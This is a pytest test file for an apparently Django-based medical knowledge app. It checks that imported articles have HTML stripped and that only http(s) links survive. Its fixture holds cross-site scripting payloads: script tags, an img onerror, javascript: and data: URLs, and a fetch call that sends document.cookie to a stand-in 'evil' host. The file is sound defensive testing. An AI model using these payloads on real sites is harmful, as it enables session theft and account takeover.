"""Imported content can carry an attacker's markup: a `javascript:` link, a <script>, an <img
onerror>. Links other than http(s) are dropped at import and never become links on any page
(the nurse's draft rendered one before); HTML in imported text is cleaned out at import."""

from __future__ import annotations

import dataclasses
import json

import pytest
from inbox_fixtures import *  # noqa: F403

from assistant.models import DraftReply
from knowledge.corpus import clean_markup, safe_link
from knowledge.importers import import_jsonl
from knowledge.models import Article, Section

pytestmark = pytest.mark.django_db

HOSTILE = {
    "id": "EVIL_0001_Sec1",
    "source": "EVIL",
    "title": "Gout <img src=x onerror=alert(1)>",
    "question": "What is gout? <script>alert('q')</script>",
    "text": (
        "Gout is a kind of arthritis.<script>fetch('//evil/'+document.cookie)</script> "
        '<a href="javascript:alert(2)" onclick="steal()">Read more</a> &amp; rest &lt; 5.'
    ),
    "url": "javascript:alert(document.domain)",
}


def test_import_drops_non_http_links_and_cleans_markup(tmp_path, admin_user):
    path = tmp_path / "hostile.jsonl"
    path.write_text(json.dumps(HOSTILE) + "\n")
    import_jsonl(path, approve_as=admin_user)
    article = Article.objects.get()
    assert article.url == ""
    section = Section.objects.select_related("current_approved").get()
    version = section.current_approved
    stored = f"{article.focus} {version.question} {version.text}"
    for bad in ("<script", "onerror", "onclick", "javascript:", "<a ", "<img"):
        assert bad not in stored, bad
    assert version.text.startswith("Gout is a kind of arthritis.")
    assert "Read more & rest < 5." in version.text  # the words stay, as plain text


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        " JavaScript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:x",
        "//evil.example/x",
        "ftp://files.example/x",
    ],
)
def test_only_http_links_survive_import(url):
    assert safe_link(url) == ""


def test_http_links_and_plain_text_pass_unchanged():
    assert safe_link("https://medlineplus.gov/gout.html") == "https://medlineplus.gov/gout.html"
    assert safe_link("HTTP://example.org/a") == "HTTP://example.org/a"
    plain = "Blood pressure under 120/80 (<130 for some) is normal; A & B."
    assert clean_markup(plain) == plain


def test_the_nurse_draft_never_renders_a_javascript_link(
    client, plain_nurse, emergency, small_retriever_inbox
):
    """An index built before import-time cleaning can still hand the draft such a URL."""
    small_retriever_inbox.sections = [
        dataclasses.replace(s, url="javascript:alert(document.cookie)")
        for s in small_retriever_inbox.sections
    ]
    client.force_login(plain_nurse)
    html = client.get(f"/inbox/{emergency.pk}/").content.decode()
    draft = DraftReply.objects.get(escalation=emergency)
    assert draft.citations  # the draft did cite the sections
    assert all(c["url"] == "" for c in draft.citations)
    assert "javascript:" not in html
